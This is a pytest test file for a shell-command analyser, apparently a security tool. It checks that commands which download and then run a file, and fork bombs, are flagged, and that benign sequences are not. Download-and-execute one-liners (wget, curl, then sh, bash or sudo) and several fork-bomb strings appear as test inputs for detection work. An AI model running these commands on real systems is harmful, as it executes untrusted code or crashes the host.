"""What is fetched and run in one line is seen together."""

import pytest

from bastion.command.effects_flow import all_effects
from bastion.command.extract import extract
from bastion.command.knowledge import Clause, Knowledge, Program

FETCH = Program(
    names=("curl", "wget"),
    effects=(
        Clause(effect="network.download", on="-o"),
        Clause(effect="network.download", on="operands"),
    ),
)


def runs_fetched(text: str) -> bool:
    found = all_effects(extract(text), Knowledge([FETCH]))
    return any(e.name == "execute.network" for _, alone in found for e in alone)


@pytest.mark.parametrize(
    "text",
    [
        "wget http://h/x.sh; sh x.sh",
        "wget http://h/a/x; chmod 777 x",
        "cd /tmp && wget 'http://h/x?y=1' && ./x",
        "curl -o run http://h/x && bash ./run --now",
        "curl -o /tmp/run http://h/x; sudo /tmp/run",
    ],
)
def test_running_what_was_fetched_is_an_effect(text):
    """By its name, or by the one under which it is kept."""
    assert runs_fetched(text)


@pytest.mark.parametrize(
    ("text", "is_bomb"),
    [
        ("f(){ f|f& };f", True),
        ("bomb() { bomb | bomb & }; bomb", True),
        ("f | g", False),
        (":(){ :|:& };:", True),
        ("f | f", False),
        ("f; f", False),
        ("f a | f b", False),
    ],
)
def test_what_is_piped_into_itself_is_a_bomb(text, is_bomb):
    """Nothing else does that."""
    found = all_effects(extract(text), Knowledge())
    assert is_bomb is any(e.name == "process.bomb" for _, alone in found for e in alone)


@pytest.mark.parametrize(
    "text",
    [
        "wget http://h/data.tar; tar xf data.tar",
        "sh x.sh; wget http://h/x.sh",
        "wget http://h/x.sh; sh other.sh",
        "sh x.sh",
        "wget http://h/; ls ./",
    ],
)
def test_other_files_are_not(text):
    """Nor what was there before."""
    assert not runs_fetched(text)
